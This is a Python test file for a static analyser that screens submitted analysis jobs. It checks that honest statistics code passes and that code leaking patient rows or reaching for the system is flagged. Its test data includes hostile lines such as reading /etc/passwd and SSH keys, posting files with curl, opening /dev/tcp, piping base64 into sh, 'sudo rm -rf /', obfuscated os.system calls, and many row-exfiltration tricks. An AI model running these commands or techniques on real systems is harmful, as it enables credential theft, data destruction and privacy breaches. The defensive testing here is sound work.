"""What is found in a job's code: honest jobs pass without noise, hostile ones are told by what they do.

The analyser's own modules are run here in this process, over snippets of ours; everywhere else they run in a sandbox
(`tests/test_weighing.py`).
"""

import base64
import importlib.util
import json
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType

import msgspec
import pytest

from gitqueue.refs import JobId
from gitqueue.rules.findings import Analysis, Category, Facts, Finding, Read, Verdict, judge, parse
from gitqueue.rules.manifest import Manifest, read
from gitqueue.rules.tree import File

ROOT = Path(__file__).parents[2]
ANALYSIS = ROOT / "templates" / "sandbox" / "analysis"
PYTHON = Manifest(name="x", run="python main.py", datasets=("d",), outputs=("*.csv", "*.json", "*.png"))
SHELL = Manifest(name="x", run="sh run.sh", datasets=("d",), outputs=("*",))
START = """import csv, json, os, sys
import pandas as pd
import numpy as np
DATA, OUT = os.environ["GITQUEUE_DATA"], os.environ["GITQUEUE_OUTPUT"]
df = pd.read_csv(DATA + "/d/people.csv")
rows = list(csv.DictReader(open(DATA + "/d/people.csv")))
"""
LINES = START.count("\n")


@pytest.fixture(scope="module")
def analyser() -> Iterator[ModuleType]:
    sys.path.insert(0, str(ANALYSIS))
    spec = importlib.util.spec_from_file_location("analysis_main", ANALYSIS / "__main__.py")
    assert spec
    assert spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    yield module
    sys.path.remove(str(ANALYSIS))


Judge = Callable[..., Verdict]


@pytest.fixture
def judged(analyser: ModuleType, tmp_path: Path) -> Judge:
    def judge_files(files: dict[str, bytes], asked: Manifest = PYTHON, apart: bool = False) -> Verdict:
        for name, data in files.items():
            path = tmp_path / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        analyser.TOP = str(tmp_path)
        told = {"run": (asked.run or "").split() or None, "entrypoint": asked.entrypoint, "inputs": [*asked.inputs],
                "identifiers": ["patient_id"], "datasets": [*asked.datasets], "files": sorted(files)}  # fmt: skip
        look = analyser.apart if apart else analyser.one
        known = analyser.wanted(told)
        facts = [look(name, str(tmp_path / name), told, known) for name in sorted(files)]
        facts += [look("job.yaml", None, told, known)] if told["run"] else []
        held = tuple(File(name, 0o100644, len(data), data) for name, data in files.items())
        return judge(Facts(held, asked, parse(json.dumps({"files": facts}).encode())))

    return judge_files


def shown(verdict: Verdict) -> list[tuple[str, str, int]]:
    return [(str(one.category), str(one.sure), one.line) for one in verdict.findings]


# honest code


HONEST = {
    "means by group": 'df.groupby("sex")["age"].mean().to_csv(OUT + "/means.csv")\n',
    "several aggregates": 'df.groupby("sex").agg({"age": ["mean", "count"], "x": "std"}).to_csv(OUT + "/a.csv")\n',
    "named aggregates": 'df.groupby("sex").agg(n=("x", "count"), m=("x", "mean")).to_csv(OUT + "/a.csv")\n',
    "shape and columns": "print(df.shape, df.columns, df.dtypes, len(df))\ndf.info()\n",
    "rounded counts": 'c = df["sex"].value_counts()\nc = (c / 5).round() * 5\nc.to_csv(OUT + "/c.csv")\n',
    "a pivot": 'pd.crosstab(df.sex, df.stage).to_csv(OUT + "/t.csv")\n',
    "correlations": 'df.corr(numeric_only=True).to_csv(OUT + "/c.csv")\n',
    "a filtered mean": 'print(df[df["age"] > 50]["x"].mean(), (df.age > 50).sum())\n',
    "numpy": 'x = df["x"].to_numpy()\nprint(np.mean(x), np.std(x), x.sum(), x[x > 3].mean())\n',
    "a loop over columns": "for name in df.columns:\n    print(name, df[name].mean(), df[name].isna().sum())\n",
    "a loop over groups": 'for sex, group in df.groupby("sex"):\n    print(sex, len(group), group["x"].mean())\n',
    "sums by hand": 'total, n = 0.0, 0\nfor row in rows:\n    total += float(row["x"])\n    n += 1\nprint(total / n)\n',
    "sums by hand, spelled out": 'total = 0\nfor row in rows:\n    total = total + float(row["x"])\nprint(total)\n',
    "groups by hand": "from collections import defaultdict\nfrom statistics import fmean\ngroups = defaultdict(list)\n"
    'for row in rows:\n    groups[row["sex"]].append(float(row["x"]))\n'
    'with open(OUT + "/m.csv", "w") as f:\n    w = csv.writer(f)\n    for sex, values in groups.items():\n'
    "        w.writerow([sex, len(values), fmean(values)])\n",
    "counts by hand": 'counts = {}\nfor row in rows:\n    counts[row["sex"]] = counts.get(row["sex"], 0) + 1\n'
    'json.dump(counts, open(OUT + "/c.json", "w"))\n',
    "a counter": 'from collections import Counter\nprint(Counter(row["sex"] for row in rows).most_common())\n',
    "variance by hand": 'xs = [float(r["x"]) for r in rows]\nm = sum(xs) / len(xs)\n'
    "print(sum((x - m) ** 2 for x in xs) / (len(xs) - 1))\n",
    "a model": "from sklearn.linear_model import LogisticRegression\nfrom sklearn.metrics import accuracy_score\n"
    'x, y = df[["a"]], df.y\nm = LogisticRegression().fit(x, y)\nprint(m.coef_, accuracy_score(y, m.predict(x)))\n',
    "statsmodels": 'import statsmodels.formula.api as smf\nprint(smf.ols("y ~ a", data=df).fit().summary())\n',
    "a test": "from scipy import stats\nprint(stats.ttest_ind(df.x, df.y))\n",
    "a histogram": 'import matplotlib.pyplot as plt\nplt.hist(df.age, bins=10)\nplt.savefig(OUT + "/h.png")\n',
    "a helper": "def mean(values):\n    return sum(values) / len(values)\nprint(mean(df.x))\n",
    "headers": 'with open(DATA + "/d/people.csv") as f:\n    reader = csv.reader(f)\n    head = next(reader)\n'
    "    n = sum(1 for _ in reader)\nprint(head, n)\n",
    "the first line": 'table = list(csv.reader(open(DATA + "/d/people.csv")))\nprint(table[0], len(table[1:]))\n',
    "names of fields": "print(list(rows[0]), rows[0].keys())\n",
    "its own file": 'settings = json.load(open("settings.json"))\nprint(settings)\n',
    "apply by column": "print(df.apply(lambda column: column.mean()))\n",
    "a count of sums": 'x = df.loc[:, ["a", "b"]].sum(axis=1)\nx.value_counts().reset_index().to_csv(OUT + "/x.csv")\n',
    "places": 'print(df.loc[df.age > 3, "x"].mean(), df.iloc[:, 2].mean())\n',
    "masks": "print(df[df.patient_id.isin([])].x.mean())\n",
    "algebra": "X = df.to_numpy()\nprint(np.linalg.inv(X.T @ X))\n",
    "a table by hand": 't = pd.DataFrame()\nt = t.append(df)\nfor c in ["a"]:\n    print(t[c].mean())\n',
    "a frame with a key column": 'df["k"] = df["patient_id"].map({})\nprint(df.groupby("sex").k.mean())\n',
    "a class": "class Study:\n    def __init__(self, frame):\n        self.frame = frame\n    def mean(self):\n"
    "        return self.frame.x.mean()\nprint(Study(df).mean())\n",
    "a seeded draw": "rng = np.random.default_rng(7)\nprint(rng.permutation(df.x).mean())\n",
    "sql that counts": 'import duckdb\nprint(duckdb.sql("select sex, count(*) from people group by sex"))\n',
    "a library of its own": "import logging\nlogging.info('%d rows', len(df))\n"
    "log = logging.getLogger('x')\nlog.info(df.x.mean())\n",
    "a loop that ends": "n = 0\nwhile True:\n    n += 1\n    if n > 3:\n        break\n",
    "a loop over an array": "t = 0.0\nfor row in df.values:\n    t += row[2]\nprint(t / len(df))\n",
    "an array's columns": "X = df.to_numpy()\nprint(X.mean(), X[:, 0].mean(), X.shape)\n",
    "residuals summed up": 'import statsmodels.formula.api as smf\nm = smf.ols("y ~ a", data=df).fit()\n'
    "print(m.resid.std())\n",
    "a chart's words": 'import matplotlib.pyplot as plt\nplt.hist(df.age)\nplt.title(f"n = {len(df)}")\n'
    'plt.xlabel("age")\n'
    'plt.legend(["all"])\nplt.savefig(OUT + "/h.png", dpi=100, bbox_inches="tight")\n',
    "a pivot by two columns": 'df.pivot_table(index="sex", columns="stage", values="x").to_csv(OUT + "/p.csv")\n',
    "each column by itself": "for c in df.columns:\n    print(df.groupby(c).size().mean(), sep=';')\n",
    "words of its own about methods": "class A:\n    def __init__(self, d):\n        self.d = d\n"
    "    @property\n    def n(self):\n"
    "        return len(self.d)\n    def __add__(self, other):\n        return self.n + other\nprint(A(df).n)\n",
    "map and reduce": 'from functools import reduce\nxs = list(map(float, df["x"]))\n'
    "print(sum(xs), reduce(lambda a, b: a + b, xs))\n",
    "a setting": 'os.environ["OMP_NUM_THREADS"] = "1"\nprint(os.environ["OMP_NUM_THREADS"])\n',
    "threads that sum up": "import threading\ndef work(d):\n    print(d.x.mean())\n"
    "threading.Thread(target=work, args=(df,)).start()\n",
    "a query": 'print(df.query("age > 50").x.mean())\n',
    "options of a library": "pd.options.display.max_rows = 10\nprint(len(df))\n",
    "letters of the world": "größe = df.x.mean()\nprint('Größe', größe)\n",
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_code_is_recommended_without_a_word(judged: Judge, name: str) -> None:
    verdict = judged({"main.py": (START + HONEST[name]).encode(), "settings.json": b"{}"})
    assert (shown(verdict), verdict.score, str(verdict.recommendation)) == ([], 1, "approve")


@pytest.mark.parametrize("job", ["bc-mean", "accuracy"])
def test_the_examples_are_recommended_without_a_word(judged: Judge, job: str) -> None:
    folder = ROOT / "examples" / "jobs" / job
    asked = read(JobId("rachel", job), (folder / "job.yaml").read_bytes(), None)
    verdict = judged({path.name: path.read_bytes() for path in folder.iterdir()}, asked)
    assert (verdict.findings, verdict.score) == ((), 1)


def template(name: str) -> dict[str, bytes]:
    from gitqueue.adapters.render import template as rendered

    values = {
        "name": "x",
        "datasets": ["d"],
        "dataset": "d",
        "assets": ["people.csv"],
        "inputs": {"people": "d/people"},
    }
    folder = ROOT / "templates" / "job" / name
    return {one.name: rendered(f"job/{name}/{one.name}").render(**values).encode() for one in folder.iterdir()}


@pytest.mark.parametrize("name", ["python", "function", "shell"])
def test_the_templates_are_recommended_without_a_word(judged: Judge, name: str) -> None:
    files = template(name)
    asked = read(JobId("rachel", "x"), files.get("job.yaml"), files.get("run.sh"))
    verdict = judged(files, asked)
    assert (verdict.findings, str(verdict.recommendation)) == ((), "approve")


def test_what_is_not_analysed_is_said_and_asks_for_a_person(judged: Judge) -> None:
    files = template("r")
    verdict = judged(files, read(JobId("rachel", "x"), files["job.yaml"], None))
    assert [(one.file, one.category, "is R" in one.why) for one in verdict.findings] == [
        ("main.R", Category.UNREAD, True)
    ]
    assert str(verdict.recommendation) == "review"


# rows that leave


ROWS = {
    "print": ("print(df)\n", "certain"),
    "print of a string of it": ('print(f"first: {df.iloc[0]}")\n', "certain"),
    "head": ("print(df.head())\n", "certain"),
    "sample": ("sys.stdout.write(str(df.sample(3)))\n", "certain"),
    "to_csv": ('df[df.age > 50].to_csv(OUT + "/x.csv")\n', "certain"),
    "to_parquet": ('df.drop(columns=["patient_id"]).to_parquet(OUT + "/x.csv")\n', "certain"),
    "writerow": ('w = csv.writer(open(OUT + "/x.csv", "w"))\nfor r in rows:\n    w.writerow(r.values())\n', "certain"),
    "write_text": ('from pathlib import Path\n(Path(OUT) / "x.json").write_text(json.dumps(rows))\n', "certain"),
    "json": ('json.dump(rows[:3], open(OUT + "/x.json", "w"))\n', "certain"),
    "numpy": ('np.savetxt(OUT + "/x.csv", df.to_numpy())\n', "certain"),
    "a copy": ('import shutil\nshutil.copy(DATA + "/d/people.csv", OUT + "/x.csv")\n', "certain"),
    "through a function": ("def show(what):\n    print(what)\nshow(df)\n", "certain"),
    "through a class": ("class A:\n    def __init__(self, d):\n        self.d = d\n    def go(self):\n"
                        "        print(self.d)\nA(df).go()\n", "certain"),
    "through a list": ("kept = []\nfor row in rows:\n    kept.append(row)\nprint(kept)\n", "certain"),
    "through a lambda": ("(lambda d: print(d))(df)\n", "certain"),
    "through a dict of functions": ('{"p": print}["p"](df)\n', "certain"),
    "grouped by a name": ('df.groupby("patient_id").mean().to_csv(OUT + "/x.csv")\n', "certain"),
    "along the columns": ('df.mean(axis=1).to_csv(OUT + "/x.csv")\n', "certain"),
    "lists by group": ('df.groupby("sex").agg(list).to_csv(OUT + "/x.csv")\n', "certain"),
    "first by group": ('df.groupby("sex").first().to_csv(OUT + "/x.csv")\n', "certain"),
    "a sum of one": ('for row in rows:\n    print(sum([float(row["x"])]))\n', "certain"),
    "sums as they run": ('t = 0\nfor row in rows:\n    t += float(row["x"])\n    print(t)\n', "certain"),
    "cumulated": ('print(df["x"].cumsum())\n', "certain"),
    "predictions": ("from sklearn.linear_model import LogisticRegression as L\n"
                    'm = L().fit(df[["a"]], df.y)\nprint(m.predict(df[["a"]]))\n', "certain"),
    "by a branch that is not taken": ("if False:\n    df = df.mean()\nprint(df)\n", "certain"),
    "a raised error": ("raise ValueError(df.iloc[0])\n", "certain"),
    "an exit code": ('sys.exit(int(rows[3]["age"]))\n', "certain"),
    "a name of a file": ('open(f"{OUT}/{rows[0][\'x\']}.csv", "w").write("x")\n', "certain"),
    "something unknown": ("import lib\nprint(lib.polish(df))\n", "likely"),
    "a scatter plot": ('import matplotlib.pyplot as plt\nplt.scatter(df.a, df.b)\n', "likely"),
    "sql": ('import duckdb\nprint(duckdb.sql("select * from people"))\n', "certain"),
    "a method put aside": ('save = df.to_csv\nsave(OUT + "/x.csv")\n', "certain"),
    "a spelled method": ('getattr(df, "to_" + "csv")(OUT + "/x.csv")\n', "certain"),
    "a partial": ("import functools\nfunctools.partial(print, df)()\n", "certain"),
    "an object of its own": ("class A:\n    def __repr__(self):\n        return str(df)\nprint(A())\n", "certain"),
    "a global": ("kept = None\ndef load():\n    global kept\n    kept = df\nload()\nprint(kept)\n", "certain"),
    "an archive": ('import zipfile\nzipfile.ZipFile(OUT + "/x.csv", "w").write(DATA + "/d/a.csv")\n', "certain"),
    "one by its place": ("print(df.iloc[3].mean())\n", "certain"),
    "one by its name": ('print(df[df.patient_id == "p3"].mean())\n', "certain"),
    "grouped by the index": ("print(df.groupby(df.index).mean())\n", "certain"),
    "transposed": ("print(df.T.mean())\n", "certain"),
    "by waiting": ('import time\ntime.sleep(float(rows[0]["x"]))\n', "certain"),
    "from another folder": ('os.chdir(DATA)\nprint(pd.read_csv("d/people.csv"))\n', "certain"),
    "never called": ("def leak():\n    print(pd.read_csv(DATA + '/d/people.csv'))\n", "certain"),
    "a minimum": ('print(df["age"].min())\n', "possible"),
    "the first and the last": ('print(sorted(df["age"])[0])\n', "certain"),
    "by what calls what it is given": ("import functools\n"
                                       "functools.reduce(lambda a, b: print(b), df.values.tolist())\n", "certain"),
    "as a thread": ("import threading\nthreading.Thread(target=print, args=(df,)).start()\n", "certain"),
    "in the end": ("import atexit\natexit.register(print, df)\n", "certain"),
    "each row of an array": ("list(map(print, df.values))\n", "certain"),
    "a method by its name": ('import operator\noperator.methodcaller("to_csv", OUT + "/x.csv")(df)\n', "certain"),
    "an attribute by its name": ('import operator\noperator.attrgetter("to_csv")(df)(OUT + "/x.csv")\n', "certain"),
    "a method of its class": ('pd.DataFrame.to_csv(df, OUT + "/x.csv")\n', "certain"),
    "a separator": ('print("a", "b", sep=str(rows))\n', "certain"),
    "keywords as they come": ('print(**{"end": str(rows)})\n', "certain"),
    "by way of the environment": ('os.environ["X"] = df.to_csv()\nprint(os.environ["X"])\n', "certain"),
    "a property": ("class A:\n    @property\n    def d(self):\n        return df\nprint(A().d)\n", "certain"),
    "an operator": ("class A:\n    def __add__(self, other):\n        return rows\nprint(A() + 1)\n", "certain"),
    "a last word": ("class A:\n    def __del__(self):\n        print(self.d)\na = A()\na.d = df\n", "certain"),
    "sent to a generator": ("def g():\n    while (x := (yield)):\n        print(x)\nc = g()\nnext(c)\n"
                            "c.send(df)\n", "likely"),
    "by descriptors": ('i, o = os.open(DATA + "/d/people.csv", 0), os.open(OUT + "/x.csv", 65)\n'
                       'os.sendfile(o, i, 0, 999)\n', "certain"),
    "a file in memory": ('import mmap\nf = open(DATA + "/d/people.csv")\n'
                         'print(mmap.mmap(f.fileno(), 0)[:99])\n', "likely"),
    "an array on disk": ('np.memmap(OUT + "/x.npy", mode="w+", shape=9)[:] = df.x\n', "certain"),
    "an array's own way out": ('df.x.to_numpy().tofile(OUT + "/x.csv")\n', "certain"),
    "the time of a file": ('os.utime(OUT + "/x.csv", (0, int(rows[0]["age"])))\n', "certain"),
    "a chart's title": ('import matplotlib.pyplot as plt\nplt.title(str(rows))\n', "likely"),
    "a picture's metadata": ('import matplotlib.pyplot as plt\n'
                             'plt.savefig(OUT + "/h.png", metadata={"a": df.to_csv()})\n', "certain"),
    "what a model keeps": ("from sklearn.svm import SVC\n"
                           "print(SVC().fit(df[['a']], df.y).support_vectors_)\n", "likely"),
    "a model that keeps its rows": ("from sklearn.neighbors import KNeighborsClassifier as K\n"
                                    'import joblib\n'
    'joblib.dump(K().fit(df[["a"]], df.y), OUT + "/m.json")\n', "likely"),
    "groups of one": ("print(df.groupby(list(df.columns)).size())\n", "certain"),
    "a pivot by name": ('print(df.pivot_table(index="patient_id", values="x"))\n', "certain"),
    "a mean of a short slice": ("for i in range(len(df)):\n    print(df.x[i : i + 1].mean())\n", "certain"),
    "a mean of a place": ("for i in df.index:\n    print(df[df.index == i].x.mean())\n", "certain"),
    "one by a query": ("print(df.query(\"patient_id == 'p3'\").x.mean())\n", "certain"),
    "the length of a text as long": ('print(len("x" * int(rows[0]["age"])))\n', "certain"),
    "encoded": ('import base64\nx = base64.b64encode(df.to_csv().encode())\nopen(OUT + "/x.csv", "wb").write(x)\n',
                "certain"),
}  # fmt: skip


@pytest.mark.parametrize("name", ROWS)
def test_rows_that_leave_are_found(judged: Judge, name: str) -> None:
    code, sure = ROWS[name]
    verdict = judged({"main.py": (START + code).encode()})
    found = [one for one in verdict.findings if one.category is Category.ROWS]
    assert [str(one.sure) for one in found] == [sure], shown(verdict)
    assert found[0].line > LINES
    assert str(verdict.recommendation) != "approve" or sure == "possible"


def test_what_is_written_weighs_more_than_what_is_printed(judged: Judge) -> None:
    assert str(judged({"main.py": (START + "print(df)\n").encode()}).recommendation) == "review"
    written = judged({"main.py": (START + 'df.to_csv(OUT + "/x.csv")\n').encode()})
    assert (written.score, str(written.recommendation)) == (-1, "reject")


def test_a_function_that_returns_its_rows_is_found(judged: Judge) -> None:
    asked = Manifest(
        name="x", entrypoint="main.py:go", inputs={"people": "d/people"}, datasets=("d",), outputs=("result.*",)
    )
    verdict = judged({"main.py": b"def go(people):\n    return people[people.age > 3]\n"}, asked)
    assert [one.why.split(" rows")[0] for one in verdict.findings] == ["returns as its result"]


def test_rows_are_followed_into_a_neighbouring_file(judged: Judge) -> None:
    main = START + "from tools import show\nimport tools\nshow(df)\nprint(tools.mean(df))\n"
    tools = "def show(d):\n    print(d)\ndef mean(d):\n    return d.mean()\n"
    verdict = judged({"main.py": main.encode(), "tools.py": tools.encode()})
    assert [(one.file, one.line) for one in verdict.findings] == [("tools.py", 2)]


def test_a_tag_that_what_was_found_contradicts_is_called_so(judged: Judge) -> None:
    tagged = msgspec.structs.replace(PYTHON, tags=("aggregate-analysis",))
    rows = {"main.py": (START + "print(df)\n").encode()}
    found = judged(rows, tagged).findings
    assert [str(one.category) for one in found] == ["contradicts its tags", "row-level output"]
    assert "'aggregate-analysis'" in found[0].why
    assert str(judged(rows, tagged).recommendation) == "reject"
    assert not judged({"main.py": (START + "print(df.mean())\n").encode()}, tagged).findings


# what code reaches for


PACKED = base64.b64encode(b"import os; os.system('id')" * 9).decode()
REACHES = {
    "import os\nos.system('ls')\n": {"subprocess"},
    "from os import system as s\ns('ls')\n": {"subprocess"},
    "from os import *\nsystem('ls')\n": {"subprocess"},
    "import subprocess as sp\nsp.run(['curl', 'http://x'])\n": {"subprocess", "network"},
    "f = {'a': __import__('os').system}['a']\nf('ls')\n": {"subprocess", "obfuscation"},
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('ls')\n": {"subprocess", "obfuscation"},
    "getattr(__import__('so'[::-1]), 'metsys'[::-1])('ls')\n": {"subprocess", "obfuscation"},
    "import os\nvars(os)['sys' + 'tem']('ls')\n": {"subprocess", "obfuscation"},
    "import os\nos.__dict__['system']('ls')\n": {"subprocess", "obfuscation"},
    "import sys\nsys.modules['os'].system('ls')\n": {"subprocess", "obfuscation"},
    "x = ().__class__.__base__.__subclasses__()\n": {"obfuscation"},
    "import os\nname = input()\ngetattr(os, name)('ls')\n": {"dynamic code"},
    f"import base64\nexec(base64.b64decode('{PACKED}'))\n": {"obfuscation", "dynamic code"},
    "exec(bytes([105, 109]).decode())\n": {"obfuscation", "dynamic code"},
    "e = eval\ne('1')\n": {"dynamic code"},
    "exec(open('other.txt').read())\n": {"dynamic code"},
    "eval(compile('1', 'x', 'eval'))\n": {"dynamic code"},
    "import pickle\nx = pickle.load(open('m.pkl', 'rb'))\n": {"dynamic code"},
    "import ctypes\nctypes.CDLL(None).system(b'ls')\n": {"dynamic code"},
    "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n": {"subprocess"},
    "import os\nos.system('X=1; sudo wget x')\n": {"subprocess", "network"},
    "import socket\nsocket.create_connection(('1.2.3.4', 80))\n": {"network"},
    "import urllib.request\nurllib.request.urlopen('http://x')\n": {"network"},
    "import requests\n": {"network"},
    "import pandas\nx = pandas.read_csv('https://x/y.csv')\n": {"network"},
    "from sklearn.datasets import fetch_openml\nx = fetch_openml('a')\n": {"network"},
    "open('/etc/passwd').read()\n": {"files outside"},
    "from pathlib import Path\nPath('/root/.ssh/id_rsa').read_text()\n": {"files outside"},
    "open('../other/x.py').read()\n": {"files outside"},
    "import os\nos.listdir('/')\n": {"files outside"},
    "import os\nopen(os.environ['GITQUEUE_DATA'] + '/../proc/1/environ')\n": {"files outside"},
    "while True:\n    pass\n": {"unbounded loop"},
    "import itertools\nfor n in itertools.count():\n    n\n": {"unbounded loop"},
    "import random\nprint(random.random())\n": {"no seed"},
    "from numpy.random import default_rng\nprint(default_rng().normal())\n": {"no seed"},
    "import os\nopen(os.environ['GITQUEUE_OUTPUT'] + '/notes.txt', 'w').write('x')\n": {"undeclared write"},
    "open('notes.csv', 'w').write('x')\n": {"undeclared write"},
    "ｅｖａｌ('1')\n": {"obfuscation", "dynamic code"},
    "x = 1  # nosec\nimport subprocess\nsubprocess.call('ls', shell=True)  # nosec\n": {"subprocess"},
    "import pandas as pd\npd.Series.mean = lambda self: self\n": {"dynamic code"},
    "import urllib.parse\nprint(urllib.parse.quote('x y'))\n": set(),
    "import numpy as np\nx = np.load('a.npy')\n": set(),
}


@pytest.mark.parametrize("code", REACHES)
def test_what_code_reaches_for_is_named(judged: Judge, code: str) -> None:
    verdict = judged({"main.py": code.encode()})
    assert {str(one.category) for one in verdict.findings} == REACHES[code]
    serious = REACHES[code] & {"network", "obfuscation", "files outside"}
    assert not serious or code.startswith(("import requests", "x = ()")) or str(verdict.recommendation) == "reject"


SCRIPTS = {
    'wc -l "$GITQUEUE_DATA"/d/people.csv > "$GITQUEUE_OUTPUT/n.txt"\n': set(),
    "cut -d, -f3 $GITQUEUE_DATA/d/people.csv | sort | uniq -c > $GITQUEUE_OUTPUT/n.txt\n": set(),
    "awk -F, '{ s += $2 } END { print s / NR }' $GITQUEUE_DATA/d/people.csv\n": set(),
    "python main.py\nRscript -e 'x' >/dev/null 2>&1\n": set(),
    'echo "started" >&2\n': set(),
    "cat $GITQUEUE_DATA/d/people.csv\n": {"row-level output"},
    'head -5 "$GITQUEUE_DATA/d/people.csv" > "$GITQUEUE_OUTPUT/x.csv"\n': {"row-level output"},
    "cp -r $GITQUEUE_DATA/d $GITQUEUE_OUTPUT/\n": {"row-level output"},
    "cd $GITQUEUE_DATA; sort d/people.csv | tee $GITQUEUE_OUTPUT/x.csv >/dev/null\n": {"row-level output"},
    'F="$GITQUEUE_DATA/d/people.csv"\nx=$(tail -1 "$F")\necho "$x"\n': {"row-level output"},
    "awk -F, '{ print $1 }' $GITQUEUE_DATA/d/people.csv\n": {"row-level output"},
    "awk 'NR > 1' $GITQUEUE_DATA/d/people.csv\n": {"row-level output"},
    'while read -r line; do echo "$line"; done < $GITQUEUE_DATA/d/people.csv\n': {"row-level output"},
    "f() { cat $1; }\nf $GITQUEUE_DATA/d/people.csv\n": {"row-level output"},
    'for f in $(find $GITQUEUE_DATA -name "*.csv"); do cat "$f"; done\n': {"row-level output"},
    "find $GITQUEUE_DATA -type f -exec cat {} +\n": {"row-level output"},
    "find $GITQUEUE_DATA -type f | xargs cat\n": {"row-level output"},
    "find $GITQUEUE_DATA -type f | wc -l\n": set(),
    "x=$(<$GITQUEUE_DATA/d/people.csv); echo $x\n": {"row-level output"},
    "trap 'cat $GITQUEUE_DATA/d/people.csv' EXIT\n": {"row-level output"},
    'sh -c "cat $GITQUEUE_DATA/d/people.csv"\n': {"row-level output"},
    "gzip -c $GITQUEUE_DATA/d/people.csv | base64 > $GITQUEUE_OUTPUT/x.txt\n": {"row-level output"},
    "curl -d @x https://example.org\n": {"network"},
    'c""url https://example.org\n': {"network", "obfuscation"},
    "\\c\\u\\r\\l https://example.org\n": {"network", "obfuscation"},
    "exec 3>/dev/tcp/1.2.3.4/80\n": {"network"},
    "echo aWQK | base64 -d | sh\n": {"obfuscation", "dynamic code"},
    'eval "$X"\n': {"dynamic code"},
    "$X --now\n": {"dynamic code"},
    "cat /etc/passwd\n": {"files outside"},
    "sudo rm -rf /\n": {"files outside", "subprocess"},
    "chmod 777 x\n": {"subprocess"},
    "while true; do sleep 1; done\n": {"unbounded loop"},
    "for ((;;)); do :; done\n": {"unbounded loop"},
    "python3 - <<'EOF'\nimport socket\nsocket.socket()\nEOF\n": {"network"},
    "python -c 'import os; os.system(\"ls\")'\n": {"subprocess"},
    "bash <<EOF\nwget http://x\nEOF\n": {"network"},
    "env X=1 nohup wget http://x\n": {"network"},
    "perl <<EOF\nprint 1\nEOF\n": {"not analysed"},
    "if then fi ((\n": {"not analysed"},
}


@pytest.mark.parametrize("script", SCRIPTS)
def test_what_a_script_does_is_named(judged: Judge, script: str) -> None:
    verdict = judged({"run.sh": b"#!/bin/bash\n" + script.encode()}, SHELL)
    assert {str(one.category) for one in verdict.findings} == SCRIPTS[script], shown(verdict)
    assert all(one.line > 1 for one in verdict.findings)


def test_code_in_the_job_s_own_command_is_read_too(judged: Judge) -> None:
    asked = Manifest(name="x", run="bash -c wget", datasets=("d",), outputs=("*",))
    assert [(one.file, str(one.category)) for one in judged({}, asked).findings] == [("job.yaml", "network")]


def notebook(*cells: str, **metadata: object) -> bytes:
    made = [{"cell_type": "code", "source": cell.splitlines(keepends=True)} for cell in cells]
    return json.dumps({"cells": [{"cell_type": "markdown", "source": "# x"}, *made], "metadata": metadata}).encode()


CELLS: dict[tuple[str, ...], list[tuple[str, int, int]]] = {
    (START, "df.mean().round()\n"): [],
    (START, "df.head()\n"): [("row-level output", 3, 1)],
    (START, "df.head();\n", "x = df\n"): [],
    ("%matplotlib inline\nimport os\n", "!curl http://x\n"): [("network", 3, 1), ("subprocess", 3, 1)],
    ("%%bash\nwget http://x\n",): [("network", 2, 2)],
    ("x = !ls\n",): [("subprocess", 2, 1)],
    ("%run other.py\n",): [("dynamic code", 2, 1)],
    ("%%javascript\nalert(1)\n",): [("not analysed", 2, 1)],
    ("import os\n", "def f():\n    os.system('ls')\n"): [("subprocess", 3, 2)],
}


@pytest.mark.parametrize("cells", CELLS)
def test_notebooks_are_read_cell_by_cell(judged: Judge, cells: tuple[str, ...]) -> None:
    verdict = judged({"study.ipynb": notebook(*cells)}, SHELL)
    assert [(str(one.category), one.cell, one.line) for one in verdict.findings] == CELLS[cells]


# files that are not what they seem


@pytest.mark.parametrize(
    ("name", "data", "category"),
    [
        ("tool", b"\x7fELF" + bytes(200), Category.BINARY),
        ("a.csv", b"\x7fELF" + bytes(200), Category.BINARY),
        ("m.txt", b"\x80\x04\x95" + bytes(200), Category.BINARY),
        ("x.png", b"\x89PNG\r\n\x1a\n" + bytes(200_000), Category.BINARY),
        ("x.dat", bytes(range(256)), Category.UNKNOWN),
        ("n.md", "plain\nhid\u202eden\n".encode(), Category.INVISIBLE),
        ("data.txt", b"import socket\nsocket.socket()\n", Category.NETWORK),
        ("tool", b"#!/usr/bin/env python3\nimport socket\nsocket.socket()\n", Category.NETWORK),
        ("x.jl", b"println(1)\n", Category.UNREAD),
        ("nb.ipynb", notebook("1", kernelspec={"language": "R"}), Category.UNREAD),
    ],
)
def test_a_file_is_taken_for_what_it_holds(judged: Judge, name: str, data: bytes, category: Category) -> None:
    verdict = judged({name: data}, SHELL)
    assert category in {one.category for one in verdict.findings}
    assert str(verdict.recommendation) != "approve"


def test_what_the_command_runs_is_python_whatever_it_is_called(judged: Judge) -> None:
    asked = msgspec.structs.replace(PYTHON, run="python -u notes.txt")
    found = judged({"notes.txt": b"x = 1\nwhile 1: x\n"}, asked).findings
    assert [str(one.category) for one in found] == ["unbounded loop"]


# hostile input


HOSTILE = {
    "nested lists": b"x = " + b"[" * 50_000 + b"]" * 50_000,
    "nested calls": b"x = " + b"f(" * 5000 + b")" * 5000,
    "nested sums": b"x = 1" + b" + 1" * 60_000,
    "nested attributes": b"x" + b".a" * 60_000,
    "nested conditions": b"".join(b" " * n + b"if x:\n" for n in range(99)) + b" " * 99 + b"pass\n",
    "a NUL byte": b"import os\0\nos.system('ls')\n",
    "another encoding": "x = 'ä'\n".encode("utf-16"),
    "a declared encoding": b"# coding: utf-7\nx = 1\n",
    "no such encoding": b"# coding: no-such\nx = 1\n",
    "no Python": b"this is ] not Python\n",
    "ten megabytes": b"x = 1\n" * 1_700_000,
    "calls without end": b"".join(b"def g%d(x): return g%d(g%d(x))\n" % (n, n + 1, n + 1) for n in range(40)),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_that_breaks_a_parser_is_itself_a_finding(judged: Judge, name: str) -> None:
    verdict = judged({"main.py": HOSTILE[name], "ok.py": b"import socket\nsocket.socket()\n"}, apart=True)
    of_file = [str(one.category) for one in verdict.findings if one.file == "main.py"]
    if name not in (
        "a declared encoding",
        "nested attributes",
        "nested conditions",
        "nested sums",
        "calls without end",
    ):
        assert of_file == ["not analysed"], shown(verdict)
    assert "network" in {str(one.category) for one in verdict.findings if one.file == "ok.py"}


